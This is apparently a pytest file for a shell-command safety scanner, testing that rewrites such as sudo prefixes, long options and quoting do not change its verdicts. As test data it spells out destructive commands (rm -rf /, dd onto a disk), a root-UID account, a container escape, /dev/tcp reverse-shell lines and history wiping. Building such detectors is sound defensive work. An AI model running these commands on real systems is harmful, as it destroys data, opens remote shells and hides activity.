"""The second yardstick: every corpus row through meaning-preserving rewrites keeps its verdict.

The threshold is all of them. Every failure this test found while it was written was either a rewrite
that changed the row's meaning (fixed in mutate.py: `>&` split into `>` and `&`, options of the command
inside `docker run` rewritten as docker's) or a scanner bug (fixed: bashlex's quote removal of
`'a'"'"'b'`, `$'...'` decoded inside quotes, here-documents inside `( )`, `while 'true'`). A rewrite
that does not keep a row's meaning is skipped by mutate.py itself, never exempted here.
"""

from __future__ import annotations

import pytest

from shelltune.safety.evaluate import load_corpus, mutation_report
from shelltune.safety.mutate import (
    REWRITES,
    argument_indirection,
    bash_c,
    long_options,
    mutate_all,
    prefix_with,
    quote_words,
    reorder_options,
    rewrite_options,
    subshell,
    tokens,
)

from conftest import ROOT

CORPUS = ROOT / "tests" / "data" / "safety_corpus.jsonl"


@pytest.fixture(scope="module")
def report() -> dict:
    return mutation_report(load_corpus(CORPUS))


def test_every_rewrite_keeps_the_rows_verdict(report):
    assert report["failures"] == []
    assert report["survived"] == report["rewrites"]


def test_the_rewrites_really_apply(report):
    # A rewrite that silently stopped applying would make the test above pass on nothing.
    assert report["rewrites"] >= 15_000
    assert set(report["per_rewrite"]) == set(REWRITES)
    for name, counts in report["per_rewrite"].items():
        assert counts["dangerous"] >= 35 and counts["benign"] >= 45, name


def test_a_blind_spot_is_reported():
    # A judge that misses `sudo` and long options: the harness must see it, row by row.
    def judge(cmd: str) -> str | None:
        return None if cmd.startswith("sudo") or "--recursive" in cmd else "recursive_delete"

    outcomes = mutate_all([("rm -rf /", True, "recursive_delete")], judge)
    failed = {o.rewrite for o in outcomes if not o.survived}
    assert failed == {"sudo", "long_options"}


@pytest.mark.parametrize(
    "row,rewrite,expected",
    [
        ("rm -rf /", prefix_with("sudo"), "sudo rm -rf /"),
        ("rm -rf /", rewrite_options(long_options), "rm --recursive --force /"),
        ("rm -rf /", rewrite_options(reorder_options), "rm -f -r /"),
        ("useradd -ou 0 x", rewrite_options(reorder_options), "useradd -o -u 0 x"),  # -u keeps its value
        ("rm -rf /tmp/x ~/y", quote_words("single"), "'rm' '-rf' '/tmp/x' ~/y"),  # ~ would stop expanding
        ("dd if=/dev/zero of=/dev/sda", argument_indirection, 'MUT_V=of=/dev/sda; dd if=/dev/zero "$MUT_V"'),
        (
            "docker run -it alpine nsenter -t 1 sh",
            rewrite_options(long_options),
            "docker run --interactive --tty alpine nsenter -t 1 sh",
        ),  # nsenter's -t is not docker's
    ],
)
def test_rewrites_keep_meaning(row, rewrite, expected):
    assert rewrite(row) == expected


@pytest.mark.parametrize("row", ["history -c", "export HISTFILE=/dev/null", "unset HISTFILE", "HISTSIZE=0"])
def test_shell_state_is_not_moved_into_another_shell(row):
    # `sudo history -c` fails and `bash -c 'history -c'` clears a history nobody keeps: not the same command
    assert prefix_with("sudo")(row) is None and bash_c(row) is None and subshell(row) is None


def test_tokens_keep_redirections_whole_and_refuse_expansions():
    assert tokens("bash -i >& /dev/tcp/h/1 0>&1") == ["bash", "-i", ">&", "/dev/tcp/h/1", "0>&1"]
    assert tokens("exec 196<>/dev/tcp/h/1") == ["exec", "196<>", "/dev/tcp/h/1"]
    assert tokens("rm -rf $(pwd)") is None and tokens("cat <<EOF\nx\nEOF") is None


def test_v4_rows_keep_the_scanners_own_verdict_through_every_rewrite():
    # The v4 rows' categories are the writer's guesses (an etcd prefix wipe is database or infrastructure):
    # what must hold is that a rewrite never changes what the scanner says about the row.
    from shelltune.safety import scan_command

    def category(cmd: str) -> str | None:
        found = scan_command(cmd)
        return found.category if found else None

    rows = load_corpus(ROOT / "tests" / "data" / "safety_v4.jsonl")
    verdicts = [(e.cmd, category(e.cmd)) for e in rows]
    outcomes = mutate_all([(cmd, got is not None, got or "") for cmd, got in verdicts], category)
    assert len(outcomes) >= 10_000
    assert [o for o in outcomes if not o.survived] == []
